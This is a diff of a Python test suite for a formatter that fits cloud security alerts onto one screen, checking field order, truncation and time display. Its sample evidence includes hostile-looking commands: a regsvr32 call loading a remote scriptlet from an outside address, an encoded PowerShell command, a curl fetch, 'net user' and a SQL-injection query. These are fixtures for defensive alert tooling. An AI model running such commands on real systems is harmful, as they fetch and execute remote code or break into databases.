@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 from dataclasses import replace
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta, timezone
 from typing import Any
 
 import pytest
@@ -38,6 +38,7 @@ CHAT = Counterpart(destination="channel", lane=Lane.TICKET)
 RELEASE = Release(
     kind="rule", name="known-scanner", author="ana@contoso.example", since="2026-11-21T08:00:00Z", messages=7
 )
+ZONES = (UTC, timezone(timedelta(hours=9)), timezone(timedelta(hours=-8)), timezone(timedelta(hours=5, minutes=45)))
 NAMES = ("accounts", "ips", "processes", "hashes", "urls")
 
 
@@ -51,12 +52,12 @@ def screen_of(
 
 def lines_of(screen: FirstScreen) -> list[str]:
     """What it says below the headline, paragraph by paragraph."""
-    return [str(line) for line in (*screen.story, *screen.facts)]
+    return [str(line) for line in (*screen.story, *screen.facts, *([screen.step] if screen.step else []))]
 
 
 def names_of(screen: FirstScreen) -> list[str]:
-    """The names of its facts."""
-    return [line.name for line in screen.facts]
+    """The names of its facts, and of what the title speaks of."""
+    return [line.name for line in (*screen.story, *screen.facts) if line.name]
 
 
 texts = st.text(alphabet=st.sampled_from("ab \n,.:<*") | st.characters(codec="utf-8"), max_size=200) | st.sampled_from(
@@ -149,7 +150,7 @@ def shown_name(name: str) -> str:
 
 def evidence_in(screen: FirstScreen) -> Sequence[Any]:
     """The lines of evidence: those behind where, since when and why."""
-    around = {"Where", "Respond by", "Since", "Last seen", "Owner", "Sent by", "To do"}
+    around = {"Where", "Respond by", "Since", "Last", "Owner", "Sent by"}
     return [line for line in screen.facts if line.name not in around]
 
 
@@ -167,17 +168,17 @@ def test_what_is_hidden_is_counted_exactly(lists: list[list[int]]) -> None:
 
 
 def test_what_happened_comes_first() -> None:
-    """Headline, description, where, since when, whom to ask, the evidence in its order."""
+    """Headline, what the title speaks of, description, where, since when, whom to ask, the evidence in its order."""
     screen = screen_of(
         a_notice(environment="production", evidence=Evidence(hosts=("vm-pay-01",), ips=("203.0.113.7",)), tactics=())
     )
     assert screen.headline == "Opened: High: Suspicious sign-in to a virtual machine - vm-pay-01 (production)"
     assert lines_of(screen) == [
+        "IP addresses: 203.0.113.7",
         "Somebody signed in from an address that was never seen before.",
         "Where: vm-pay-01, production, resource group rg-payments",
         "Since: 2026-11-24 11:58 UTC, last seen 11:59",
         "Owner: payments-platform / Payments, route page-high",
-        "IP addresses: 203.0.113.7",
         "To do: Change the password.",
     ]
     assert (screen.hidden, screen.rest) == (0, None)
@@ -202,7 +203,7 @@ def test_a_resolution_says_how_it_ended_and_no_more_than_where_when_and_whose() 
 
 def test_a_release_says_what_had_held_it_behind_what_happened() -> None:
     """Nobody has read of it yet, so what happened is first; then which rule, whose, and how many messages."""
-    first, second, *_ = lines_of(screen_of(a_notice(release=RELEASE)))
+    first, second, *_ = lines_of(screen_of(a_notice(release=RELEASE, evidence=Evidence())))
     assert first == "Somebody signed in from an address that was never seen before."
     assert second.startswith("The rule known-scanner, by ana@contoso.example, held 7 messages since 2")
 
@@ -307,11 +308,17 @@ def test_a_place_is_told_once_by_the_beginning_in_the_headline_and_the_end_in_it
     """Where neither has room for all of a location, cluster and namespace stand in the one, and the pod in the other."""
     namespace, pod = "kubernetes-dashboard", "kubernetes-dashboard-6c9d7b8f5-x2x7k"
     lists = Evidence(pods=(pod,), namespaces=(namespace,), clusters=("aks-web-weu",), containers=("dashboard",))
-    screen = screen_of(a_shell_in_a_pod(title="Exposed Kubernetes dashboard detected", evidence=lists))
+    full = {f"property {number}": f"value {number}" for number in range(25)}
+    screen = screen_of(
+        a_shell_in_a_pod(
+            title="Exposed Kubernetes dashboard detected", evidence=lists, extended=full, unlisted=tuple(full)
+        )
+    )
     assert f" - aks-web-weu/{namespace}/kub" in screen.headline
     assert f"{MARK} (production)" in screen.headline
     assert f"Where: …/{pod}" in lines_of(screen)
-    assert [line.name for line in evidence_in(screen)] == ["Containers", "Tactics"]
+    assert names_of(screen)[0] == "Containers"
+    assert not {"Pods", "Namespaces", "Clusters"} & set(names_of(screen))
 
 
 def test_a_place_that_no_line_has_room_for_stays_evidence() -> None:
@@ -323,7 +330,7 @@ def test_a_place_that_no_line_has_room_for_stays_evidence() -> None:
 
 @pytest.mark.parametrize("name", ["commands", "processes", "queries"])
 def test_how_it_was_done_comes_before_who_did_it(name: str) -> None:
-    """Where there is no room for all, the lines are for the command, though it stands in its place in the order."""
+    """A title that speaks of nothing else speaks of how it was done: the command is first, whatever the order of evidence."""
     command = r"C:\Windows\System32\regsvr32.exe /s /u /i:http://198.51.100.23/a.sct"
     lists: dict[str, Any] = {
         "hosts": ("pay-win-01.corp.contoso.example",), "accounts": ("root",), "ips": ("203.0.113.7",), name: (command,),
@@ -331,10 +338,11 @@ def test_how_it_was_done_comes_before_who_did_it(name: str) -> None:
     words = "Somebody ran a program in a way that gets around what watches over programs on the machine. " * 3
     title = "A title that takes three lines of the screen together with the place that stands behind it"
     few = screen_of(a_notice(title=title, description=words, evidence=Evidence(**lists)))
-    assert [str(line) for line in evidence_in(few)] == [f"{name.capitalize()}: {command}"]
-    assert few.hidden == 4
+    assert lines_of(few)[0] == f"{name.capitalize()}: {command}"
+    assert few.hidden == 4 - len(evidence_in(few))
     many = screen_of(a_notice(title="Short", description="", evidence=Evidence(**lists), tactics=(), remediation=()))
-    assert [line.name for line in evidence_in(many)] == ["Hosts", "Accounts", "IP addresses", name.capitalize()]
+    assert names_of(many)[0] == name.capitalize()
+    assert [line.name for line in evidence_in(many)] == ["Hosts", "Accounts", "IP addresses"]
 
 
 @pytest.mark.parametrize(
@@ -350,7 +358,7 @@ def test_how_it_was_done_comes_before_who_did_it(name: str) -> None:
 def test_a_path_is_cut_in_its_middle(value: str, beginning: str) -> None:
     """What runs is the end of its path, and what it is told stands behind it."""
     screen = screen_of(a_notice(evidence=Evidence(processes=(value, "cmd"))))
-    (line,) = (line for line in screen.facts if line.name == "Processes")
+    (line,) = (line for line in screen.story if line.name == "Processes")
     assert line.text.startswith(beginning)
 
 
@@ -362,17 +370,35 @@ def test_what_a_process_started_is_told_beside_it() -> None:
         "cmd",
     )
     screen = screen_of(a_notice(evidence=Evidence(processes=processes)))
-    (line,) = (line for line in screen.facts if line.name == "Processes")
+    (line,) = (line for line in screen.story if line.name == "Processes")
     assert line.text.startswith("c:\\…\\explorer.exe (0x11d8), powershell.exe -NoProfile -EncodedCommand VwBy")
     assert line.text.endswith("…")
     assert (line.more, line.height) == (" and 1 more", 3)
 
 
-def test_a_path_that_is_no_command_shows_both_its_ends() -> None:
-    """The registry of an image, and its name and tag."""
+def test_a_path_that_is_no_command_shows_its_end() -> None:
+    """The name and the tag of an image."""
     image = f"registry.contoso.example/{'x' * 60}/checkout:4.18.2"
     screen = screen_of(a_notice(evidence=Evidence(images=(image, "b"))))
-    assert "Images: registry…x/checkout:4.18.2 and 1 more" in lines_of(screen)
+    assert "Images: …/checkout:4.18.2 and 1 more" in lines_of(screen)
+
+
+@pytest.mark.parametrize("title", ["Container with a miner image detected", "Suspicious sign-in"])
+@pytest.mark.parametrize(
+    "registry", ["", "contosoprod.azurecr.example/", "registry.contoso.example:5000/payments/online/"]
+)
+@pytest.mark.parametrize("tag", ["", ":4.18.2-20261124.1"])
+def test_an_image_is_cut_at_its_digest(title: str, registry: str, tag: str) -> None:
+    """Name and tag are whole, as evidence and in the description, and the digest is what gives way."""
+    digest = "877a6f2a212c44021281f80cb1f4c73a09dce4e99a8cb8efcc03f7ce3c877a6f"
+    image = f"{registry}checkout{tag}@sha256:{digest}"
+    notice = a_notice(
+        title=title, description=f"The image {image} runs.", evidence=Evidence(images=(image,)), remediation=()
+    )
+    (line,) = (line for line in lines_of(screen_of(notice)) if line.startswith("Images: "))
+    assert line.endswith(f"checkout{tag}@sha256:877a6f2a212c…")
+    assert digest not in screen_of(notice).text
+    assert f"checkout{tag}@sha256:877a6f2a212c…" in screen_of(replace(notice, evidence=Evidence())).text
 
 
 def test_no_row_ends_with_what_it_leaves_out() -> None:
@@ -385,20 +411,22 @@ def test_no_row_ends_with_what_it_leaves_out() -> None:
         respond_by="2026-11-25T16:00:00Z",
     )
     where, since, owner = lines_of(screen_of(notice))[1:4]
-    assert (where, since) == ("Where: vm-pay-01, production", "Since: 2026-11-24 11:58 UTC")
+    assert where == "Where: vm-pay-01, production"
+    assert since == "Since: 2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59"
     assert owner == "Owner: cloud-platform / Payments of Contoso"
 
 
-def test_a_step_comes_before_properties_in_no_list() -> None:
-    """The first thing to do, and a third line of the description, are told before tactics and what stands in no list."""
-    words = (
-        "Somebody signed in from an address that was never seen before, and at an hour at which nobody ever does it."
-    )
-    screen = screen_of(replace(with_others(25), description=words, evidence=Evidence(ips=("203.0.113.7",))))
-    assert lines_of(screen)[0] == words
-    assert screen.facts[-1].name == "To do"
-    assert screen.hidden > 20
-    assert screen.height == LINES
+@pytest.mark.parametrize("words", [1, 12, 30, 60])
+def test_the_first_step_stands_whole(words: int) -> None:
+    """Below the screen where it is long: one line of it is counted, and the evidence is what gives way."""
+    step = " ".join(f"word{number}" for number in range(words))
+    full = replace(with_others(25), description="Words of it. " * 20, evidence=Evidence(ips=("203.0.113.7",)))
+    for notice in (full, a_shell_in_a_pod()):
+        screen = screen_of(replace(notice, remediation=(f"{step}.", "Then do more.")))
+        assert str(screen.step) == f"To do: {step}."
+        assert screen.height == LINES
+    both = screen_of(a_notice(remediation=("To mend it:", "1. Do this.", "2. Do that.")))
+    assert str(both.step) == "To do: To mend it: 1. Do this."
 
 
 def test_portal_runbook_and_ticket_are_always_among_the_links() -> None:
@@ -416,8 +444,8 @@ def test_a_list_tells_whole_values_and_how_many_more_there_are() -> None:
     ips = tuple(f"203.0.113.{number}" for number in range(40))
     processes = ("powershell -enc " + "A" * 500, "cmd")
     screen = screen_of(a_notice(description="", evidence=Evidence(ips=ips, processes=processes)))
-    shown = {line.name: line for line in screen.facts}
-    assert str(shown["IP addresses"]) == "IP addresses: 203.0.113.0 and 39 more"
+    shown = {line.name: line for line in (*screen.story, *screen.facts)}
+    assert str(shown["IP addresses"]) == "IP addresses: 203.0.113.0, 203.0.113.1, 203.0.113.2, 203.0.113.3 and 36 more"
     assert shown["Processes"].is_code
     assert shown["Processes"].text.endswith("A…")
     assert shown["Processes"].more == " and 1 more"
@@ -440,16 +468,17 @@ def test_a_description_ends_with_a_sentence_where_one_is_near() -> None:
     screen = screen_of(
         a_notice(
             description=f"{first} Attackers are known to use it, as somebody wrote, for many a purpose, and others do too.",
-            evidence=Evidence(ips=("203.0.113.7",)),
-            extended={},
+            evidence=Evidence(),
+            extended={"a": "b", "c": "d", "e": "f"},
+            unlisted=("a", "c", "e"),
             remediation=("Look.",),
         )
     )
-    assert lines_of(screen)[0] == f"{first} {MARK}"
+    assert f"{first} {MARK}" in lines_of(screen)
 
 
 def test_times_say_no_day_and_no_zone_twice() -> None:
-    """Since when, which stays where there is one line only, by when people should respond, and when it was last seen."""
+    """Since when and by when people should respond, which both stay, and when it was last seen, where there is room."""
     for respond_by, said in (
         ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00, last seen 11:59"),
         ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59"),
@@ -458,7 +487,7 @@ def test_times_say_no_day_and_no_zone_twice() -> None:
         assert [line.text for line in screen.facts if line.name == "Since"] == [said]
     for respond_by, said in (
         ("2026-11-24T16:00:00Z", "2026-11-24 11:58 UTC, respond by 16:00"),
-        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC"),
+        ("2026-11-25T16:00:00Z", "2026-11-24 11:58 UTC, respond by 2026-11-25 16:00, last seen 2026-11-24 11:59"),
     ):
         full = screen_of(replace(with_others(25), respond_by=respond_by))
         assert [line.text for line in full.facts if line.name == "Since"] == [said]
@@ -485,5 +514,96 @@ def test_a_fact_without_a_word_is_none() -> None:
     """Nothing empty is shown, nor counted."""
     notice = a_notice(evidence=Evidence(hosts=("", " ")), extended={"a": " "}, unlisted=("a",), tactics=())
     screen = screen_of(notice)
-    assert (names_of(screen), screen.hidden) == (["Where", "Since", "Owner", "To do"], 0)
+    assert (names_of(screen), screen.hidden) == (["Where", "Since", "Owner"], 0)
     assert a_briefing(notice).others == ()
+
+
+A_LOGIN: dict[str, Any] = {
+    "ips": ("198.51.100.23",), "locations": ("198.51.100.23: Utrecht, Netherlands (AS64500)",), "accounts": ("svc-report",),
+    "applications": ("sqlcmd",), "hosts": ("vm-pay-01",),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("title", "lists", "first"),
+    [
+        ("Log on from an unusual location", A_LOGIN, "Locations: 198.51.100.23: Utrecht, Netherlands (AS64500)"),
+        (
+            "Suspected brute force attack using a valid user",
+            {"ips": ("198.51.100.23",), "accounts": ("sa",)},
+            "IP addresses",
+        ),
+        (
+            "Attempted communication with suspicious sinkholed domain",
+            {"ips": ("198.51.100.23",), "domains": ("sink.example (198.51.100.23)",), "processes": ("svchost.exe",)},
+            "Domains: sink.example (198.51.100.23)",
+        ),
+        (
+            "Potential malware uploaded to a storage account",
+            {"ips": ("198.51.100.23",), "malware": ("Eicar (Virus)",), "blobs": ("https://a.example/in/eicar.com",)},
+            "Malware: Eicar (Virus)",
+        ),
+        ("Potential SQL injection", {**A_LOGIN, "queries": ("SELECT 1 OR 1=1 --",)}, "Queries: SELECT 1 OR 1=1 --"),
+        ("User accessed high volume of key vaults", A_LOGIN, "Locations: 198.51.100.23: Utrecht"),
+        ("Suspicious Account Creation Detected", {**A_LOGIN, "processes": ("net user",)}, "Accounts: svc-report"),
+        ("Digital currency mining container detected", {"pods": ("p",), "images": ("a/miner:1",)}, "Images: a/miner:1"),
+        (
+            "Role binding to the cluster-admin role detected",
+            {"roles": ("admins",), "accounts": ("ada",)},
+            "Roles: admins",
+        ),
+        ("A title of tomorrow", {**A_LOGIN, "processes": ("curl -s http://a.example",)}, "Processes: curl"),
+    ],
+)
+@pytest.mark.parametrize("properties", [0, 25])
+def test_what_the_title_speaks_of_comes_first(title: str, lists: dict[str, Any], first: str, properties: int) -> None:
+    """Whatever else there is to say, and what the deadline, the place and the links take."""
+    full = replace(with_others(properties), description="Words of it. " * 20, respond_by="2026-12-01T00:30:00Z")
+    screen = screen_of(replace(full, title=title, evidence=Evidence(**lists), environment="production"))
+    assert lines_of(screen)[0].startswith(first)
+
+
+def test_an_address_that_stands_before_its_place_is_not_said_again() -> None:
+    """One that has no place is."""
+    screen = screen_of(a_notice(title="Log on from an unusual location", evidence=Evidence(**A_LOGIN)))
+    assert names_of(screen)[:2] == ["Locations", "Accounts"]
+    lists = {**A_LOGIN, "ips": (*A_LOGIN["ips"], "192.0.2.1")}
+    screen = screen_of(a_notice(title="Log on from an unusual location", evidence=Evidence(**lists)))
+    assert "IP addresses: 198.51.100.23, 192.0.2.1" in lines_of(screen)
+
+
+@pytest.mark.parametrize(
+    ("sentence", "is_said"),
+    [
+        ("Suspicious sign-in to a virtual machine.", False),
+        ("Microsoft Defender for Cloud detected a suspicious sign-in to your virtual machine vm-pay-01:", False),
+        ("THIS IS A SUSPICIOUS SIGN-IN!", False),
+        ("A suspicious sign-in to a virtual machine from 203.0.113.7.", True),
+        ("Somebody guessed a password.", True),
+    ],
+)
+def test_a_sentence_that_repeats_the_headline_goes(sentence: str, is_said: bool) -> None:
+    """As often as one begins the description, and not where it says more."""
+    screen = screen_of(a_notice(description=f"{sentence} {sentence} It came at night.", evidence=Evidence()))
+    assert lines_of(screen)[0] == (f"{sentence} {sentence} It came at night." if is_said else "It came at night.")
+    alone = lines_of(screen_of(a_notice(description=sentence)))
+    assert (sentence in alone) is is_said
+
+
+moments = st.builds(datetime.fromtimestamp, st.integers(1_700_000_000, 1_900_000_000), st.sampled_from(ZONES)) | (
+    st.sampled_from([datetime(2024, 2, 29, 23, 50, tzinfo=UTC), datetime(2026, 12, 31, 23, 59, tzinfo=UTC)])
+)
+
+
+@settings(deadline=None, max_examples=some_of(200))
+@given(notice=notices(), since=moments, minutes=st.integers(0, 60 * 24 * 40), change=st.sampled_from(Change))
+def test_since_when_and_by_when_never_give_way(notice: Notice, since: datetime, minutes: int, change: Change) -> None:
+    """Across midnight, months, years and zones, both are whole in each screen, whatever else there is to say."""
+    by = since + timedelta(minutes=minutes)
+    screen = screen_of(replace(notice, started=since.isoformat(), respond_by=by.isoformat(), ended=None), change)
+    (said,) = (line.text for line in screen.facts if line.name == "Since")
+    start, end = (time.astimezone(UTC) for time in (since, by))
+    assert said.startswith(f"{start:%Y-%m-%d %H:%M} UTC, respond by {end:%H:%M}" if start.date() == end.date() else (
+        f"{start:%Y-%m-%d %H:%M} UTC, respond by {end:%Y-%m-%d %H:%M}"
+    ))  # fmt: skip
+    assert screen.height <= LINES
